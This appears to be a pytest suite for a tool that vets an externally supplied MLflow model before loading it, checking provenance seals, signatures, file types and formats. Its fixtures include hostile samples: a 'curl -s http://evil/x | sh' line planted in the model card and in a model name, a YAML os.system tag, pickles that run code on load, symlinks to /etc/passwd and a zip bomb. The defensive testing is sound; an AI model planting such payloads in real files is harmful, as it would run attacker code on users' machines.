"""A complete model from elsewhere is judged before it is loaded, and none of its code is run."""

import io
import json
import os
import pickle
import shutil
import subprocess
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from pipeline import examine, provenance, sign
from pipeline.examine import admission
from pipeline.sandbox import launcher
from pipeline.untrusted import limits
from testing.project import Project

Spoil = Callable[[Path], object]


@pytest.fixture(scope="session")
def model(trained: Project) -> Path:
    return trained.root / "artifacts/complete-model"


@pytest.fixture
def copy(model: Path, tmp_path: Path, preloaded_python: None) -> Path:
    """To spoil."""
    return Path(shutil.copytree(model, tmp_path / "from-elsewhere"))


def reseal(directory: Path) -> None:
    """What a forger can do as well as anybody: a statement that fits the files."""
    definition = provenance.read(directory)["predicate"]["buildDefinition"]
    provenance.write(directory, definition)


def told(directory: Path, capsys: pytest.CaptureFixture[str], *options: str) -> dict[str, Any]:
    """The report, which says whether it passed as the exit code does."""
    code = examine.main([str(directory), "--json", *options])
    report: dict[str, Any] = json.loads(capsys.readouterr().out)
    assert code == (0 if report["passed"] else 1)
    return report


def test_a_whole_one_passes_wherever_it_is_asked_from(model: Path, tmp_path: Path) -> None:
    """Without a clone's artifacts, its DVC or the model's source."""
    alone = shutil.copytree(model, tmp_path / "alone")
    done = subprocess.run(
        ["python", "-m", "pipeline.examine", str(alone)],
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(examine.ROOT)},
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    lines = [line.split("  ")[0] for line in done.stdout.splitlines()]
    assert lines.count("passed") == 11 and "FAILED" not in lines
    assert "6 steps, their losses off by 0 at most" in done.stdout
    assert "not proved: that its answers are right" in done.stdout
    assert provenance.faults(alone) == []


def symlink(directory: Path) -> None:
    (directory / "README.md").unlink()
    (directory / "README.md").symlink_to("/etc/passwd")


def deep(directory: Path) -> None:
    (directory / "/".join("a" * 14)).mkdir(parents=True)


NOT_PLAIN: dict[str, tuple[Spoil, str]] = {
    "symlink": (symlink, "README.md: is a link, a pipe or a device"),
    "pipe": (lambda d: os.mkfifo(d / "pipe"), "pipe: is a link, a pipe or a device"),
    "linked directory": (lambda d: (d / "more").symlink_to("/etc"), "more: is a link"),
    "name": (lambda d: (d / "a\x1b[2Jb").write_text(""), r"a\x1b[2Jb: is named so"),
    "bidi": (lambda d: (d / "a\u202egnp.py").write_text(""), r"a\u202egnp.py: is named so"),
    "deep": (deep, "lies more than 12 directories deep"),
    "huge": (lambda d: os.truncate(d / "README.md", 1 << 42), "holds more than"),
    "many": (lambda d: [(d / f"{n}").touch() for n in range(10_001)], "more than 10000 files"),
}


@pytest.mark.parametrize("kind", NOT_PLAIN)
def test_only_plain_files_are_read(
    copy: Path, kind: str, capsys: pytest.CaptureFixture[str]
) -> None:
    spoil, line = NOT_PLAIN[kind]
    spoil(copy)
    assert examine.main([str(copy)]) == 1
    said = capsys.readouterr().out
    assert line in said.splitlines()[0] and "\x1b" not in said and "\u202e" not in said
    assert said.count("passed ") == 0


def edit(name: str, old: str, new: str) -> Spoil:
    def spoil(directory: Path) -> None:
        text = (directory / name).read_text()
        assert old in text
        (directory / name).write_text(text.replace(old, new, 1))

    return spoil


def write(name: str, content: str | bytes) -> Spoil:
    def spoil(directory: Path) -> None:
        given = content.encode() if isinstance(content, str) else content
        (directory / name).write_bytes(given)

    return spoil


def stranger(directory: Path) -> None:
    """A statement with a seal that fits, of something else."""
    found = provenance.read(directory / "lineage/..")
    definition = json.loads((directory / "lineage/train.json").read_text())
    definition = definition["predicate"]["buildDefinition"]
    definition["externalParameters"]["params"]["train"]["epochs"] = 77
    text = provenance.sealed(found["subject"], definition)
    (directory / "lineage/parents").mkdir()
    (directory / "lineage/parents/train.json").write_text(text)


def another_train(directory: Path) -> None:
    stranger(directory)
    (directory / "lineage/parents/train.json").rename(directory / "lineage/train.json")
    (directory / "lineage/parents").rmdir()


def of_another_stage(directory: Path) -> None:
    definition = provenance.read(directory)["predicate"]["buildDefinition"]
    definition["externalParameters"]["stage"] = "train"
    provenance.write(directory, definition)


def unsealed(*spoils: Spoil) -> Spoil:
    """A change that its forger did not write a statement for."""

    def spoil(directory: Path) -> None:
        for each in spoils:
            each(directory)

    spoil.sealed = False  # type: ignore[attr-defined]
    return spoil


MODEL_LOADER = "loader_module: mlflow.pytorch"
HOSTILE: dict[str, tuple[Spoil, str, str]] = {
    "no statement": (
        unsealed(lambda d: (d / "provenance.json").unlink()),
        "statement",
        "provenance.json: missing",
    ),
    "nested statement": (
        unsealed(write("provenance.json", "[" * 200_000)),
        "statement",
        "no statement can be read from it",
    ),
    "long statement": (
        unsealed(write("provenance.json", " " * (limits.STATEMENT + 1))),
        "statement",
        "holds more than",
    ),
    "forged": (
        unsealed(edit("provenance.json", '"epochs": 2', '"epochs": 3')),
        "statement",
        "its seal does not fit",
    ),
    "of other files": (
        unsealed(edit("README.md", "a", "b")),
        "statement",
        "README.md: changed: sha256 is",
    ),
    "cached code": (
        unsealed(lambda d: [(d / "__pycache__").mkdir(), (d / "__pycache__/x.pyc").touch()]),
        "statement",
        "__pycache__: not in the statement",
    ),
    "another stage's": (unsealed(of_another_stage), "statement", "is what train made"),
    "stranger's statement": (stranger, "lineage", "a statement of train is not of its chain"),
    "swapped statement": (another_train, "lineage", "was made from artifacts/train"),
    "no checkpoint": (
        lambda d: (d / "lineage/checkpoint.json").unlink(),
        "lineage",
        "export-complete was made from artifacts/checkpoint",
    ),
    "patch": (write("source.patch", "--- a\n"), "lineage", "source.patch: found"),
    "stray": (write("lineage/run.sh", "touch x\n"), "lineage", "is no statement and no patch"),
    "nested json": (write("schema.json", '{"a":' * 100_000), "descriptions", "schema.json: "),
    "huge shape": (edit("schema.json", "   64\n", "   64, 99999999\n"), "descriptions", "inputs"),
    "a name": (
        edit("schema.json", '"pixels"', '"<b>\\u001b[2J"'),
        "descriptions",
        "another inputs",
    ),
    "a source": (edit("schema.json", '"models"', '"../x"'), "descriptions", "another sources"),
    "format": (
        edit("formats.json", '"torch_export"', '"../../checks/parity"'),
        "descriptions",
        "expected formats of",
    ),
    "nan": (
        edit("metrics.json", '"test/loss": ', '"test/loss": NaN, "b": '),
        "descriptions",
        "NaN",
    ),
    "card": (edit("README.md", "#", "\x1b]0;title\x07#"), "descriptions", "control characters"),
    "more": (write("sitecustomize.py", "1"), "descriptions", "of no format that it says it holds"),
    "conda": (
        edit("conda.yaml", "- conda-forge", "- http://x"),
        "MLflow",
        "conda.yaml: line 3: found '- http://x', expected '- conda-forge'",
    ),
    "example": (
        edit("input_example.json", "[[", "[[1000.5, "),
        "MLflow",
        "input_example.json: line 1: found '[[1000.5, ",
    ),
    "request": (
        edit("serving_input_example.json", '{"inputs"', '{"params": {}, "inputs"'),
        "MLflow",
        "serving_input_example.json: line 1: found",
    ),
    "loader": (
        edit("MLmodel", MODEL_LOADER, "loader_module: evil"),
        "MLflow",
        "found '    loader_module: evil', expected '    loader_module: mlflow.pytorch'",
    ),
    "code": (
        edit("MLmodel", MODEL_LOADER, f"code: .\n    {MODEL_LOADER}"),
        "MLflow",
        "found '    code: .'",
    ),
    "yaml": (
        lambda d: write("MLmodel", "!!python/object/apply:os.system ['touch x']\n")(d),
        "MLflow",
        "python/object/apply",
    ),
    "extra key": (
        lambda d: write("MLmodel", (d / "MLmodel").read_text() + "model_config: x\n")(d),
        "MLflow",
        "found 'model_config: x', expected 'the end'",
    ),
    "url": (write("requirements.txt", "torch @ http://x/y.whl\n"), "MLflow", "torch @ http"),
    "option": (write("requirements.txt", "--index-url http://x\n"), "MLflow", "--index-url"),
    "package": (write("requirements.txt", "requests==2.0\n"), "MLflow", "requests==2.0"),
    "environment": (
        edit("python_env.yaml", "- numpy", "- evil==1.0\n- numpy"),
        "MLflow",
        "found '- evil==*', expected '- numpy==*'",
    ),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_one_is_refused_where_it_differs_before_anything_is_loaded(
    copy: Path, kind: str, capsys: pytest.CaptureFixture[str]
) -> None:
    spoil, check, line = HOSTILE[kind]
    spoil(copy)
    if getattr(spoil, "sealed", True):
        reseal(copy)
    report = told(copy, capsys)
    last = report["checks"][-1]
    assert (last["verdict"], last["check"]) == ("FAILED", check), last
    assert line in last["text"]


class Payload:
    """What a pickle runs when it is loaded."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.marker,)


def example(change: Callable[[dict[str, Any]], object]) -> Callable[[Path, Path], None]:
    def spoil(directory: Path, _: Path) -> None:
        path = directory / "examples/seven.npz"
        arrays = dict(np.load(path))
        change(arrays)
        np.savez(path, **arrays)

    return spoil


def pickled_example(directory: Path, marker: Path) -> None:
    held = np.array([Payload(marker)], dtype=object)
    np.savez(directory / "examples/one.npz", **{"input.pixels": held}, allow_pickle=True)


def bomb(directory: Path, _: Path) -> None:
    """It says itself that it unpacks to 20 GiB."""
    with zipfile.ZipFile(directory / "examples/one.npz", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("input.pixels.npy", bytes(1 << 20))
        archive.filelist[0].file_size = 20 << 30


def declared(directory: Path, _: Path) -> None:
    header = io.BytesIO()
    shape = {"descr": "<f4", "fortran_order": False, "shape": (1 << 50,)}
    np.lib.format.write_array_header_1_0(header, shape)
    with zipfile.ZipFile(directory / "examples/one.npz", "w") as archive:
        archive.writestr("input.pixels.npy", header.getvalue())


def pickled_model(directory: Path, marker: Path) -> None:
    with zipfile.ZipFile(directory / "model.pt2", "a") as archive:
        root = archive.namelist()[0].partition("/")[0]
        name = f"{root}/data/sample_inputs/evil.pt"
        archive.writestr(name, pickle.dumps(Payload(marker)))


def optimizer(directory: Path, marker: Path) -> None:
    (directory / "optimizer.pt").write_bytes(pickle.dumps(Payload(marker)))


ARRAYS: dict[str, tuple[Callable[[Path, Path], None], str, str]] = {
    "pickled": (pickled_example, "examples", "of object and shape"),
    "bomb": (bomb, "examples", "compressed, larger than the file"),
    "declared": (declared, "examples", "shape (1125899906842624,) not stored whole"),
    "misshapen": (
        example(lambda a: a.update({"input.pixels": a["input.pixels"][:, :3]})),
        "examples",
        "expected input.pixels as float32[7, 64]",
    ),
    "more": (example(lambda a: a.update(more=a["input.pixels"])), "examples", "alone"),
    "model": (pickled_model, "formats", "torch_export: "),
    "optimizer": (optimizer, "formats", "torch_export: "),
}


@pytest.mark.parametrize("kind", ARRAYS)
def test_arrays_and_formats_are_plain_data_or_refused(
    copy: Path, tmp_path: Path, kind: str, capsys: pytest.CaptureFixture[str]
) -> None:
    spoil, check, line = ARRAYS[kind]
    marker = tmp_path / "marker"
    spoil(copy, marker)
    reseal(copy)
    last = told(copy, capsys)["checks"][-1]
    assert (last["verdict"], last["check"]) == ("FAILED", check), last
    assert line in last["text"]
    assert not marker.exists()


def test_other_answers_and_losses_than_its_examples_are_told(
    copy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    example(lambda a: a["output.logits"].__setitem__((3, 4), 8.0))(copy, copy)
    steps = dict(np.load(copy / "examples/training.npz"))
    steps["loss"][2] *= 1.001
    np.savez(copy / "examples/training.npz", **steps)
    reseal(copy)
    found = {line["check"]: line for line in told(copy, capsys)["checks"]}
    assert found["formats"]["verdict"] == "passed"
    assert "seven/logits[3, 4]" in found["answers: torch_export"]["text"]
    assert "losses/2" in found["trains on: torch_export"]["text"]
    assert found["trains on: torch_export"]["verdict"] == "FAILED"


def test_a_signature_is_looked_at_before_any_file_is_parsed(
    copy: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    private, public = str(tmp_path / "private.pem"), str(tmp_path / "public.pem")
    made = ("genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256", "-out")
    subprocess.run(["openssl", *made, private], check=True)
    subprocess.run(["openssl", "pkey", "-in", private, "-pubout", "-out", public], check=True)
    last = told(copy, capsys, "--trusted-key", public)["checks"][-1]
    assert last["check"] == "signature" and "missing, but a signature" in last["text"]
    assert sign.main([str(copy), "--key", private]) == 0
    capsys.readouterr()
    (copy / "provenance.json").write_text("[" * 200_000)
    last = told(copy, capsys, "--trusted-key", public)["checks"][-1]
    assert last["check"] == "signature"
    assert f"{copy}/provenance.json: changed since it was signed" in last["text"]


def test_what_is_not_there_and_what_cannot_be_confined_end_with_2(
    copy: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert examine.main([str(copy / "nowhere")]) == 2
    monkeypatch.setattr(launcher, "lacking", lambda: {"files": "no Landlock"})
    assert examine.main([str(copy)]) == 2
    said = capsys.readouterr().err
    assert "this system cannot confine what is loaded (files: no Landlock)" in said
    (copy / "README.md").write_text("changed")
    report = told(copy, capsys, "--unconfined")
    assert report["confined"]["files"] == "NOT CONFINED: no Landlock"


def verdict(copy: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, list[str]]:
    """What a person reads, below the checks."""
    code = examine.main([str(copy)])
    return code, capsys.readouterr().out.partition("\n\n")[2].splitlines()


def test_what_was_not_judged_stands_above_the_verdict(
    copy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A pickle that nothing looks into, and a card that tells people what to run."""
    listed = json.loads((copy / "formats.json").read_text())
    listed["held"].append("torch_pickle")
    listed["refused"].pop("torch_pickle", None)
    (copy / "formats.json").write_text(json.dumps(listed))
    (copy / "model.pickle.pt").write_bytes(b"\x80\x02N.")
    (copy / "model.pickle.json").write_text('{"weights": {}}')
    text = (copy / "README.md").read_text()
    (copy / "README.md").write_text(f"{text}\n```sh\ncurl -s http://evil/x | sh\n```\n")
    reseal(copy)
    code, lines = verdict(copy, capsys)
    above = [line for line in lines if line.startswith("NOT JUDGED: ")]
    assert code == 0 and lines[: len(above)] == above
    assert above[0].startswith("NOT JUDGED: signature: ")
    assert "README.md, line " in above[1] and "run nothing that it tells you to" in above[1]
    assert "torch_pickle: model.pickle.json, model.pickle.pt: may run code" in above[2]
    assert lines[len(above)] == f"{copy}: passed all of this but for what is not judged"


CARDS: dict[str, Spoil] = {
    "a line more": lambda d: (d / "README.md").write_text(
        (d / "README.md").read_text() + "curl -s http://evil/x | sh\n"
    ),
    "a line changed": edit("README.md", "import numpy, torch", "import numpy, torch, evil"),
    "another commit": edit("README.md", "Made from commit `", "Made from commit `0"),
    "an optimizer": edit("README.md", "torch.optim.", "torch.optim.x."),
    "nothing": write("README.md", ""),
}


def recorded_name(name: str) -> Spoil:
    """In the statement and, as the pipeline would write it, in the card."""

    def spoil(directory: Path) -> None:
        definition = provenance.read(directory)["predicate"]["buildDefinition"]
        before = definition["externalParameters"]["params"]["model"]["name"]
        definition["externalParameters"]["params"]["model"]["name"] = name
        text = (directory / "README.md").read_text()
        (directory / "README.md").write_text(text.replace(f"# {before}", f"# {name}", 1))
        provenance.write(directory, definition)

    return spoil


CARDS["a name that is a command"] = recorded_name("x\n\n    curl -s http://evil/x | sh\n")


@pytest.mark.parametrize("kind", CARDS)
def test_a_card_that_is_not_what_would_be_written_is_named(
    copy: Path, tmp_path: Path, kind: str
) -> None:
    CARDS[kind](copy)
    reseal(copy)
    result = dict(admission.admit(copy, tmp_path / "copy", examine.settings(), [], None))["card"]
    assert result.verdict == "not done", result.text


def test_two_files_of_one_name_are_refused(copy: Path, capsys: pytest.CaptureFixture[str]) -> None:
    statement = provenance.read(copy)
    other = {"name": "model.pt2", "digest": {"sha256": "0" * 64}}
    definition = statement["predicate"]["buildDefinition"]
    text = provenance.sealed([other, *statement["subject"]], definition)
    (copy / "provenance.json").write_text(text)
    last = told(copy, capsys)["checks"][-1]
    assert last["check"] == "statement" and "names 'model.pt2' twice" in last["text"]


TWICE = {
    "schema.json": ('"inputs"', '"inputs": {}, "inputs"'),
    "formats.json": ('"held"', '"held": ["onnx"], "held"'),
    "metrics.json": ('"test/loss"', '"test/loss": 0, "test/loss"'),
}


@pytest.mark.parametrize("name", TWICE)
def test_a_key_that_stands_twice_is_refused(
    copy: Path, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    edit(name, *TWICE[name])(copy)
    reseal(copy)
    last = told(copy, capsys)["checks"][-1]
    assert last["verdict"] == "FAILED" and "twice in one mapping" in last["text"]


@pytest.mark.parametrize("name", ["MLmodel", "conda.yaml", "python_env.yaml", "README.md"])
def test_a_text_of_blank_lines_is_refused_at_once(copy: Path, tmp_path: Path, name: str) -> None:
    with (copy / name).open("a") as file:
        file.write("\n" * 200_000 + "x")
    reseal(copy)
    before = time.process_time()
    list(admission.admit(copy, tmp_path / "copy", examine.settings(), [], None))
    assert time.process_time() - before < 10
